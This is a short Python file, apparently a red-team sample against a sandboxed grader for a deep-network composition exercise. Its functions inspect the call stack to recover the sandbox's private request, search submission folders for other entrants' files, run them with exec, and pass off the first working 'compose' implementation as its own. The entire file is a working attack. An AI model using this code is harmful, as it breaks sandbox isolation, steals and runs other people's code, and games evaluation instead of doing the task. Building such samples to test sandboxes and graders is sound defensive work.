# Attack: finds the other submissions of the batch (through the sandbox's request) and runs theirs.
import glob
import os
import sys


def _request():
    frame = sys._getframe()
    while frame is not None:
        req = frame.f_locals.get("req")
        if isinstance(req, dict) and "hide" in req:
            return req
        frame = frame.f_back
    return {}


def _borrow():
    me = os.path.basename(__file__) if "__file__" in globals() else ""
    req = _request()
    places = [*req.get("hide", []), "/submissions"]
    if "submission" in req:
        places.append(os.path.dirname(req["submission"]))
    for place in places:
        for path in glob.glob(os.path.join(place, "*.py")):
            if os.path.basename(path) == me:
                continue
            namespace = {}
            try:
                with open(path) as f:
                    exec(f.read(), namespace)  # noqa: S102
            except Exception:  # noqa: BLE001
                continue
            if callable(namespace.get("compose")) and "classmates" not in path:
                return namespace
    return None


THEIRS = _borrow()


def compose(x, theta1, phi1, theta2, phi2):
    return THEIRS["compose"](x, theta1, phi1, theta2, phi2)


def composition_to_deep(theta1, phi1, theta2, phi2):
    return THEIRS["composition_to_deep"](theta1, phi1, theta2, phi2)


def deep_net(x, theta, psi, phi):
    return THEIRS["deep_net"](x, theta, psi, phi)
